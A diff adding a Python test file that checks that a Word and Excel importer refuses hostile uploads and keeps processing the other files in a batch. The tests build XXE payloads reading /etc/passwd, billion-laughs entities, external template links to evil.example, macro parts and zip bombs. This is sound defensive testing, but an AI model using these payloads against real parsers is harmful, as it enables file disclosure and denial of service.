@@ -1,0 +1,137 @@
+"""Files made to harm: refused with a reason, within limits, and without stopping the rest."""
+
+from __future__ import annotations
+
+import io
+import time
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from scripts.paper.docx_reader import read_docx
+from scripts.paper.intake import Options, import_files
+from scripts.paper.package import Refused
+from scripts.paper.table_reader import read_xlsx
+from tests.paper.clerks import make
+
+W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
+RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
+KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def package(
+    body: str = "", more: dict[str, str | bytes] | None = None, *, document: str | bytes | None = None
+) -> bytes:
+    out = io.BytesIO()
+    parts: dict[str, str | bytes] = {
+        "[Content_Types].xml": TYPES,
+        "word/document.xml": document or f"<w:document {W}><w:body>{body}</w:body></w:document>",
+    }
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
+        for name, data in (parts | (more or {})).items():
+            made.writestr(name, data)
+    return out.getvalue()
+
+
+def relation(kind: str, target: str) -> str:
+    return RELS.format(f'<Relationship Id="r" Type="{KIND}/{kind}" Target="{target}" TargetMode="External"/>')
+
+
+ENTITY = f'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document {W}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>'
+LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
+
+
+@pytest.mark.parametrize(
+    ("data", "reason"),
+    [
+        (package(document=ENTITY), "DOCTYPE"),
+        (package(document=LAUGHS), "DOCTYPE"),
+        (package(document=ENTITY.encode("utf-16")), "DOCTYPE"),
+        (package(document='<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE l+AD4'), "编码"),
+        (package(more={"word/vbaProject.bin": b"x"}), "宏"),
+        (package(more={"[Content_Types].xml": TYPES.replace("/>", "><Override PartName='/w' ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>")}), "宏"),
+        (package(more={"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://evil.example/t.dotm")}), "外部"),
+        (package(more={"word/_rels/document.xml.rels": relation("oleObject", "file://evil/x")}), "外部"),
+        (package("<w:tbl><w:tr><w:tc>" * 60 + "</w:tc></w:tr></w:tbl>" * 60), "嵌套"),
+        (package("<w:p><w:r><w:t>x</w:r></w:p>"), "损坏"),
+        (package("<w:tbl><w:tr>" + "<w:tc/>" * 30_000 + "</w:tr></w:tbl>"), "格子太多"),
+        (package(more={f"word/m{number}.xml": "" for number in range(4000)}), "部件"),
+        (b"\xd0\xcf\x11\xe0" + b"0" * 600, "旧版"),
+        (b"{\\rtf1}", "RTF"), (b"%PDF-1.7", "PDF"), (b"", "空"), (b"hello", "不是"), (b"PK\x03\x04broken", "损坏"),
+    ],
+)  # fmt: skip
+def test_hostile_word(data: bytes, reason: str) -> None:
+    with pytest.raises(Refused, match=reason):
+        read_docx(data)
+
+
+def test_hyperlinks_are_no_harm() -> None:
+    assert (
+        read_docx(package(more={"word/_rels/document.xml.rels": relation("hyperlink", "https://www.example.com")}))[
+            "blocks"
+        ]
+        == []
+    )
+
+
+def bomb(name: str) -> bytes:
+    """A part of 300 MB in a file of 300 KB."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
+        made.writestr("[Content_Types].xml", TYPES)
+        with made.open(name, "w") as part:
+            for _ in range(300):
+                part.write(b" " * 1_000_000)
+    return out.getvalue()
+
+
+def test_bombs_are_not_inflated() -> None:
+    word, excel = bomb("word/document.xml"), bomb("xl/worksheets/sheet1.xml")
+    start = time.monotonic()
+    with pytest.raises(Refused, match="解压后超过"):
+        read_docx(word)
+    with pytest.raises(Refused, match="解压后超过"):
+        read_xlsx(excel)
+    assert time.monotonic() - start < 2
+
+
+def test_a_lie_about_the_size_is_no_way_round() -> None:
+    data = bytearray(bomb("word/document.xml"))
+    true = (300_000_000).to_bytes(4, "little")
+    while (place := data.find(true)) >= 0:
+        data[place : place + 4] = (1000).to_bytes(4, "little")
+    with pytest.raises(Refused):
+        read_docx(bytes(data))
+
+
+@pytest.mark.parametrize(
+    ("more", "reason"),
+    [
+        ({"xl/externalLinks/externalLink1.xml": "<x/>"}, "其他工作簿"), ({"xl/vbaProject.bin": b"x"}, "宏"),
+        ({"xl/sharedStrings.xml": LAUGHS}, "DOCTYPE"), ({}, "损坏"),
+    ],
+)  # fmt: skip
+def test_hostile_workbooks(more: dict[str, str | bytes], reason: str) -> None:
+    with pytest.raises(Refused, match=reason):
+        read_xlsx(package(more=more))
+
+
+def test_a_bad_file_does_not_stop_the_rest(tmp_path: Path) -> None:
+    """Through the limited worker: one that grows beyond the memory, one that is macro-laden by name, one that is good."""
+    (tmp_path / "submissions").mkdir()
+    folder = tmp_path / "in"
+    good = make(tmp_path / "made")[0]
+    folder.mkdir()
+    (folder / "z-good.docx").write_bytes(good.read_bytes())
+    (folder / "a-deep.docx").write_bytes(package("<w:p><w:ins>" * 50_000))
+    (folder / "b-bomb.docx").write_bytes(bomb("word/document.xml"))
+    (folder / "c.docm").write_bytes(package())
+    (folder / "d-wide.docx").write_bytes(package("<w:p/>" * 2_000_000))
+    (folder / "e.txt").write_text("x", encoding="utf-8")
+    lines: list[str] = []
+    start = time.monotonic()
+    outcome = import_files([folder], Options(tmp_path), lines.append)
+    assert len(outcome.written) == 1 and len(outcome.refused) == 5
+    assert time.monotonic() - start < 60
